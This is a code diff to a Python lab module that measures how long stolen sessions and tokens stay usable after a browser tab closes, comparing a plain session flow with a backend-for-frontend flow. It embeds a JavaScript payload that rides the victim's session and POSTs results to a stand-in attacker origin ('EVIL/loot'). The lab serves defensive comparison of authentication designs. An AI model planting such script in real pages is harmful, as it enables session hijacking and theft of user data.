@@ -6,7 +6,7 @@ import time
 from collections.abc import Callable, Mapping
 from typing import TYPE_CHECKING
 
-from labserver.kit.browser.people import log_in_at_app, log_in_at_site
+from labserver.kit.browser.people import log_in_at_app, log_in_at_bff, log_in_at_site
 from labserver.kit.browser.script import READABLE, Thief, plant, tokens_in
 from labserver.kit.browser.web import EVIL, Web
 from labserver.kit.display.chart import bars, units
@@ -23,44 +23,50 @@ TICK = 0.05
 """Seconds between two requests of a script that rides; what it did after the tab was closed is counted."""
 
 KEEP_RIDING = """setInterval(async () => {
-  const ridden = (await real("../session/me")).status;
+  const ridden = (await real("../FLOW/me")).status;
   real("EVIL/loot", { method: "POST", mode: "no-cors", body: JSON.stringify({ seen: [], ridden }) });
 }, MS)"""
 
 
-def refused_after(lab: Lab, works: Callable[[], bool], step: int) -> int:
-    """Move the clock by `step` seconds until the thief is refused; returns how many seconds that took."""
-    gone = 0
-    while works():
-        if gone >= LONGEST:
-            return LONGEST
-        lab.clock.advance(seconds=step)
-        gone += step
+def refused_after(lab: Lab, works: Callable[[], bool], step: int, gone: int = 0) -> int:
+    """Move the clock to the next whole number of steps until the thief is refused; returns the seconds.
+
+    `gone` seconds have passed since the theft.
+    """
+    while works() and gone < LONGEST:
+        ahead = step - gone % step
+        lab.clock.advance(seconds=ahead)
+        gone += ahead
     return gone
 
 
 def seconds_left(web: Web) -> dict[str, int]:
     """Steal in four ways, close the tab, and find how long each helps: {what: seconds}."""
     return {
-        "session, ridden": _ridden(web),
+        "session, ridden": _ridden(web, "session"),
         "session id, carried off": _carried_off(web),
         **_tokens(web),
     }
 
 
-def _ridden(web: Web) -> int:
+def bff_seconds_left(web: Web) -> dict[str, int]:
+    """Ride on the backend's session, close the tab, and find how long that helps."""
+    return {"BFF, ridden": _ridden(web, "bff")}
+
+
+def _ridden(web: Web, flow: str) -> int:
     """Let a script in the page send requests; close the tab; count those that still come."""
     lab, thief = plant(web), Thief(web)
-    tab = log_in_at_site(web, lab)
+    tab = log_in_at_bff(web, lab) if flow == "bff" else log_in_at_site(web, lab)
     evil, pause = web.sites.origin(EVIL), str(round(TICK * 1000))
-    tab.script(KEEP_RIDING.replace("EVIL", evil).replace("MS", pause))
+    tab.script(KEEP_RIDING.replace("EVIL", evil).replace("MS", pause).replace("FLOW", flow))
     assert "ridden" in thief.loot("ridden"), "it rides while the tab is open"  # noqa: S101
     tab.close()
     time.sleep(2 * TICK)  # what was under way
     thief.forget()
     began = time.monotonic()
     time.sleep(10 * TICK)
-    return 0 if "ridden" not in thief.loot() else round(time.monotonic() - began)
+    return 0 if "ridden" not in thief.so_far() else round(time.monotonic() - began)
 
 
 def _carried_off(web: Web) -> int:
@@ -99,7 +105,7 @@ def _tokens(web: Web) -> dict[str, int]:
         access = refused_after(lab, lambda: client.get("/token/me", headers=header).ok, MINUTE)
         return {
             "access token, carried off": access,
-            "refresh token, carried off": access + refused_after(lab, renews, DAY),
+            "refresh token, carried off": refused_after(lab, renews, DAY, access),
         }
     finally:
         lab.reset()
